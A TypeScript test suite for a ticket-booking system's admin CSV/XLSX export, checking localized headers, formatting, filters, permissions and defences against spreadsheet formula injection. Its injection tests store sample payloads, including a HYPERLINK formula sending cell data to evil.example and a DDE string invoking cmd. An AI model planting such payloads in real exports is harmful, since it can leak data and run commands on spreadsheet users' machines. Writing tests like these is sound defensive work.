/**
 * Issue 13, the export (DESIGN section 7.3): GET /api/admin/bookings/export.csv|.xlsx, one row per ticket
 * with SPEC section 3's 14 columns, exactly as they were, then the event and the date (issue 34, item 13), headers in the chosen language, the booking number as bookingId,
 * identity numbers unmasked; CSV for Finnish Excel (BOM, ';', decimal comma), XLSX with numbers as numbers;
 * the overview's default statuses without `status`; administer_bookings through the session or an API
 * token. Parsed here with a real CSV parser and a real XLSX reader.
 */
import "reflect-metadata";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertUser, signIn, signInAdmin } from "../../helpers/access-client.js";
import { startBookingApp, type BookingTestApp } from "../../helpers/booking-app.js";
import { RestClient, VALID_CLIENT } from "../../helpers/booking-client.js";
import { createOccasion, demoIds, insertBooking, setSettings, type DemoIds } from "../../helpers/booking-fixtures.js";

let app: BookingTestApp;
let demo: DemoIds;
let occasionId: string;
let token: string;
let booked: { number: number; id: string };
let eventName: string;

const HEADERS_FI = [
  "Osoite",
  "Määrä",
  "Varaus",
  "Varauksen tila",
  "Sähköposti",
  "Etunimi",
  "Henkilötunnus",
  "Sukunimi",
  "Viesti",
  "Puhelin",
  "Paikka",
  "Lipputyyppi",
  "Yhteensä",
  "Yksikköhinta",
];

beforeAll(async () => {
  app = await startBookingApp();
  demo = await demoIds(app);
  // The event offers the demo addons (an addon is accepted on a ticket only when the occasion's event offers it).
  // 17:00 UTC is 19:00 in Helsinki, the venue's zone.
  ({ occasionId } = await createOccasion(app, {
    planId: demo.planId,
    eventPrices: { [demo.ticketTypes.adult!]: 3950 },
    addonIds: Object.values(demo.addons),
    startTime: new Date("2026-12-12T17:00:00Z"),
  }));
  eventName = (
    await app.query<{ name: string }>(`SELECT e.name->>'en' AS name FROM events e JOIN occasions o ON o.event_id = e.id WHERE o.id = $1`, [
      occasionId,
    ])
  )[0]!.name;
  // A booked booking with an addon and an identity number (asked for when the settings require it), a draft, a cancelled one.
  await setSettings(app, { requireIdentityNumber: true });
  const buyer = new RestClient(app.url);
  await buyer.bookOk(occasionId);
  const first = await buyer.addSpaceOk(demo.space("R1-S1"));
  await buyer.addSpaceOk(demo.space("R1-S2"));
  const withAddon = await buyer.updateTicket(first.id, { addon_ids: [Object.values(demo.addons)[0]] });
  expect(withAddon.status, withAddon.text).toBe(200);
  const confirmed = await buyer.confirm({
    ...VALID_CLIENT,
    identity_number: "010380-000P",
    message: 'Wheelchair; "front" please',
    payment_method_id: "skip",
    terms_accepted: true,
  });
  expect(confirmed.status, confirmed.text).toBe(200);
  await setSettings(app, { requireIdentityNumber: false });
  const [row] = await app.query<{ number: string }>(`SELECT number FROM bookings WHERE id = $1`, [buyer.uuid]);
  booked = { number: Number(row!.number), id: buyer.uuid! };
  const drafter = new RestClient(app.url);
  await drafter.bookOk(occasionId);
  await drafter.addSpaceOk(demo.space("R2-S1"));
  await insertBooking(app, { occasionId, status: "cancelled", spaceIds: [], ticketTypeId: demo.ticketTypes.adult! });
  const admin = await signInAdmin(app);
  token = (await admin.op<{ createApiToken: { token: string } }>(`mutation { createApiToken(name: "exports") { token } }`)).data!
    .createApiToken.token;
});

afterAll(async () => {
  await app?.stop();
});

async function download(path: string, headers: Record<string, string> = { authorization: `Bearer ${token}` }) {
  const response = await fetch(`${app.url}${path}`, { headers });
  return { status: response.status, headers: response.headers, body: Buffer.from(await response.arrayBuffer()) };
}

describe("CSV", () => {
  it("one row per ticket of the box office's bookings, for Finnish Excel, identity numbers unmasked", async () => {
    const answer = await download(`/api/admin/bookings/export.csv?occasionId=${occasionId}&lng=fi`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="bookings-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect([...answer.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records: string[][] = parse(answer.body.toString("utf8"), { delimiter: ";", bom: true });
    // SPEC's 14 first, by position and name as before; the event and the date appended after them, then the season
    // ticket and order, then the voucher's.
    expect(records[0]).toEqual([...HEADERS_FI, "Tapahtuma", "Päivämäärä", "Kausikortti", "Tilaus", "Alennus", "Kampanjakoodi"]);
    expect(records.slice(1)).toHaveLength(2);
    const [withAddon, plain] = records.slice(1);
    expect(withAddon).toEqual([
      "",
      "1",
      String(booked.number),
      "Varattu",
      VALID_CLIENT.email,
      VALID_CLIENT.firstname,
      "010380-000P",
      VALID_CLIENT.lastname,
      'Wheelchair; "front" please',
      // A phone number's leading '+' would start a formula: written as text (issue 32).
      `'${VALID_CLIENT.phone}`,
      // The place as people read it, in the export's language (the demo hall's name pattern R{row}-S{seat}).
      "Rivi 1, paikka 1",
      "Aikuinen",
      withAddon![12],
      "39,50",
      eventName,
      "12.12.2026 19:00",
      // Not a date of a season ticket: no series, no order; no voucher: nothing off, no code.
      "",
      "",
      "0,00",
      "",
    ]);
    expect(withAddon![12]).toMatch(/^\d+,\d{2}$/);
    expect(Number(withAddon![12]!.replace(",", "."))).toBeGreaterThan(39.5);
    expect(plain!.slice(10)).toEqual(["Rivi 1, paikka 2", "Aikuinen", "39,50", "39,50", eventName, "12.12.2026 19:00", "", "", "0,00", ""]);
  });

  it("without status the overview's default set; with status (repeatable) exactly those", async () => {
    const statuses = async (query: string) => {
      const records: string[][] = parse(
        (await download(`/api/admin/bookings/export.csv?occasionId=${occasionId}&lng=en${query}`)).body.toString("utf8"),
        {
          delimiter: ";",
          bom: true,
          from_line: 2,
        },
      );
      return [...new Set(records.map((record) => record[3]))].sort();
    };
    expect(await statuses("")).toEqual(["Booked"]);
    expect(await statuses("&status=draft&status=booked")).toEqual(["Booked", "Draft"]);
  });

  it("reads in batches: 2,500 tickets come out whole and in booking order", async () => {
    const { occasionId: big } = await createOccasion(app, { planId: demo.planId, eventPrices: { [demo.ticketTypes.adult!]: 1000 } });
    const seats = [...demo.spaces.entries()]
      .filter(([name]) => name.startsWith("R"))
      .map(([, id]) => id)
      .slice(0, 250);
    for (let batch = 0; batch < 10; batch++) {
      await app.query(
        `WITH b AS (INSERT INTO bookings (occasion_id, status, total) SELECT $1, 'booked', 0 FROM generate_series(1, 25) RETURNING id)
         INSERT INTO tickets (booking_id, occasion_id, space_id, ticket_type_id, price, vat, code)
         SELECT b.id, $1, s, $2, 1000, 14, md5(random()::text) FROM b, unnest($3::uuid[]) AS s`,
        [big, demo.ticketTypes.adult, seats.slice(batch * 25, batch * 25 + 10)],
      );
    }
    const records: string[][] = parse((await download(`/api/admin/bookings/export.csv?occasionId=${big}`)).body.toString("utf8"), {
      delimiter: ";",
      bom: true,
      from_line: 2,
    });
    expect(records).toHaveLength(2_500);
    const numbers = records.map((record) => Number(record[2]));
    expect(numbers).toEqual([...numbers].sort((a, b) => a - b));
  });
});

describe("XLSX", () => {
  it("the same rows with numbers as numbers and euros formatted as euros, headers in the chosen language", async () => {
    const answer = await download(
      `/api/admin/bookings/export.xlsx?eventId=${(await app.query<{ event_id: string }>(`SELECT event_id FROM occasions WHERE id = $1`, [occasionId]))[0]!.event_id}&lng=sv`,
    );
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(answer.body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe("Bokningar");
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([
      "Adress",
      "Antal",
      "Bokning",
      "Bokningens status",
      "E-post",
      "Förnamn",
      "Personbeteckning",
      "Efternamn",
      "Meddelande",
      "Telefon",
      "Plats",
      "Biljettyp",
      "Totalt",
      "Styckpris",
      "Evenemang",
      "Datum",
      "Säsongskort",
      "Order",
      "Rabatt",
      "Rabattkod",
    ]);
    expect(sheet.rowCount).toBe(3);
    const row = sheet.getRow(3);
    expect(row.getCell(2).value).toBe(1);
    expect(row.getCell(3).value).toBe(booked.number);
    expect(row.getCell(7).value).toBe("010380-000P");
    expect(row.getCell(14).value).toBe(39.5);
    expect(row.getCell(14).numFmt).toBe('#,##0.00 "€"');
    expect(row.getCell(12).value).toBe("Vuxen");
    expect(row.getCell(15).value).toBe(eventName);
    // A date cell showing the venue's wall clock (spreadsheets keep no time zone).
    expect(row.getCell(16).value).toEqual(new Date(Date.UTC(2026, 11, 12, 19, 0)));
    expect(row.getCell(16).numFmt).toBe("dd.mm.yyyy hh:mm");
    // Not a date of a season ticket: empty cells; no voucher: nothing off.
    expect([row.getCell(17).value, row.getCell(18).value]).toEqual([null, null]);
    expect(row.getCell(19).value).toBe(0);
    expect(row.getCell(19).numFmt).toBe('#,##0.00 "€"');
  });
});

describe("formula injection (issue 32)", () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
  const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
  let injected: string;

  beforeAll(async () => {
    ({ occasionId: injected } = await createOccasion(app, { planId: demo.planId, eventPrices: { [demo.ticketTypes.adult!]: 1250 } }));
    const buyer = new RestClient(app.url);
    await buyer.bookOk(injected);
    await buyer.addSpaceOk(demo.space("R3-S1"));
    const confirmed = await buyer.confirm({
      ...VALID_CLIENT,
      firstname: HYPERLINK,
      lastname: "-5",
      address: "+SUM(A1:A9)",
      message: DDE,
      payment_method_id: "skip",
      terms_accepted: true,
    });
    expect(confirmed.status, confirmed.text).toBe(200);
  });

  it("CSV: a customer's text that starts a formula is written as text (a leading apostrophe); the app's numbers stay numbers", async () => {
    const answer = await download(`/api/admin/bookings/export.csv?occasionId=${injected}&lng=en`);
    expect(answer.status).toBe(200);
    const [header, ...records]: string[][] = parse(answer.body.toString("utf8"), { delimiter: ";", bom: true });
    expect(header).toHaveLength(20);
    expect(records).toHaveLength(1);
    const cell = (name: string) =>
      records[0]![
        [
          "address",
          "amount",
          "bookingId",
          "bookingStatus",
          "email",
          "firstName",
          "identityNumber",
          "lastName",
          "message",
          "phone",
          "space",
          "ticketType",
          "total",
          "unitPrice",
          "event",
          "date",
          "series",
          "order",
          "discount",
          "voucherCode",
        ].indexOf(name)
      ]!;
    expect(cell("firstName")).toBe(`'${HYPERLINK}`);
    expect(cell("message")).toBe(`'${DDE}`);
    // By the column's type, not its content: text that looks like a number is still text.
    expect(cell("lastName")).toBe("'-5");
    expect(cell("address")).toBe("'+SUM(A1:A9)");
    expect(cell("phone")).toBe(`'${VALID_CLIENT.phone}`);
    for (const record of records) for (const value of record) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect([cell("amount"), cell("total"), cell("unitPrice")]).toEqual(["1", "12,50", "12,50"]);
    expect(cell("bookingId")).toMatch(/^\d+$/);
  });

  it("XLSX: the same text is a string cell, never a formula, written as it is", async () => {
    const answer = await download(`/api/admin/bookings/export.xlsx?occasionId=${injected}&lng=en`);
    expect(answer.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(answer.body as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    for (const [column, text] of [
      [6, HYPERLINK],
      [9, DDE],
      [8, "-5"],
    ] as const) {
      expect(row.getCell(column).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(column).formula).toBeUndefined();
      expect(row.getCell(column).value).toBe(text);
    }
    expect(row.getCell(13).value).toBe(12.5);
  });
});

describe("the event and date columns (issue 34, item 13)", () => {
  const SPEC_HEADERS: Record<string, string[]> = {
    en: [
      "Address",
      "Amount",
      "Booking",
      "Booking status",
      "Email",
      "First name",
      "Identity number",
      "Last name",
      "Message",
      "Phone",
      "Place",
      "Ticket type",
      "Total",
      "Unit price",
    ],
    fi: HEADERS_FI,
    sv: [
      "Adress",
      "Antal",
      "Bokning",
      "Bokningens status",
      "E-post",
      "Förnamn",
      "Personbeteckning",
      "Efternamn",
      "Meddelande",
      "Telefon",
      "Plats",
      "Biljettyp",
      "Totalt",
      "Styckpris",
    ],
  };
  const APPENDED: Record<string, string[]> = {
    en: ["Event", "Date", "Season ticket", "Order", "Discount", "Voucher code"],
    fi: ["Tapahtuma", "Päivämäärä", "Kausikortti", "Tilaus", "Alennus", "Kampanjakoodi"],
    sv: ["Evenemang", "Datum", "Säsongskort", "Order", "Rabatt", "Rabattkod"],
  };

  it("come after SPEC's 14, which keep their order and names in every language, in CSV and XLSX alike", async () => {
    for (const lng of ["en", "fi", "sv"]) {
      const csv: string[][] = parse(
        (await download(`/api/admin/bookings/export.csv?occasionId=${occasionId}&lng=${lng}`)).body.toString("utf8"),
        {
          delimiter: ";",
          bom: true,
          to_line: 1,
        },
      );
      expect(csv[0]!.slice(0, 14)).toEqual(SPEC_HEADERS[lng]);
      expect(csv[0]).toEqual([...SPEC_HEADERS[lng]!, ...APPENDED[lng]!]);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(
        (await download(`/api/admin/bookings/export.xlsx?occasionId=${occasionId}&lng=${lng}`)).body as unknown as ArrayBuffer,
      );
      expect((workbook.worksheets[0]!.getRow(1).values as unknown[]).slice(1)).toEqual([...SPEC_HEADERS[lng]!, ...APPENDED[lng]!]);
    }
  });

  it("name each row's own event and its occasion's start in the venue's time, across occasions", async () => {
    const records: string[][] = parse((await download(`/api/admin/bookings/export.csv?lng=en`)).body.toString("utf8"), {
      delimiter: ";",
      bom: true,
      from_line: 2,
    });
    const occasions = await app.query<{ number: string; event: string; start: string }>(
      `SELECT b.number, e.name->>'en' AS event, to_char(o.start_time AT TIME ZONE 'Europe/Helsinki', 'DD.MM.YYYY HH24:MI') AS start
         FROM bookings b JOIN occasions o ON o.id = b.occasion_id JOIN events e ON e.id = o.event_id`,
    );
    const byNumber = new Map(occasions.map((row) => [String(row.number), row]));
    expect(new Set(records.map((record) => record[15])).size).toBeGreaterThan(1);
    for (const record of records) {
      const occasion = byNumber.get(record[2]!)!;
      expect(record.slice(14, 16)).toEqual([occasion.event, occasion.start]);
    }
  });
});

describe("who may export", () => {
  it("anonymous 401, a user without administer_bookings 403, an administrator's session 200", async () => {
    expect((await download(`/api/admin/bookings/export.csv`, {})).status).toBe(401);
    const user = await insertUser(app, { permissions: ["administer_events"] });
    const clerk = await signIn(app, user.email, user.password);
    const refused = await clerk.fetch("GET", "/api/admin/bookings/export.csv");
    expect(refused.status).toBe(403);
    const admin = await signInAdmin(app);
    expect((await admin.fetch("GET", `/api/admin/bookings/export.xlsx?occasionId=${occasionId}`)).status).toBe(200);
  });

  it("a bad filter is a plain 400 before anything is sent", async () => {
    const status = await download(`/api/admin/bookings/export.csv?status=sold`);
    expect([status.status, status.headers.get("content-type")]).toEqual([400, "text/plain; charset=utf-8"]);
    expect((await download(`/api/admin/bookings/export.csv?occasionId=nope`)).status).toBe(400);
  });
});
